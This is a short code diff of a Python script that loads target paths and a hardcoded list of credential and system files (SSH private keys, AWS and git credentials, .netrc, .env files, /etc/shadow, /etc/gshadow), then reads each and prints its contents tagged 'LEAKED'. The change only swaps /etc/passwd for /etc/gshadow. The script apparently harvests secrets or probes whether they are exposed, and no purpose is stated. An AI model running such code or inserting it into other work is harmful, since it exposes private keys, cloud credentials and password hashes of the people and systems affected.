@@ -1,6 +1,6 @@
 import json, os
 targets = json.load(open("targets.json"))
-home = ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.git-credentials", "~/.netrc", "../.env", "../../.env", "/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa"]
+home = ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.git-credentials", "~/.netrc", "../.env", "../../.env", "/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa"]
 for path in targets["secrets"] + home:
     try:
         print("LEAKED", path, open(os.path.expanduser(path)).read())
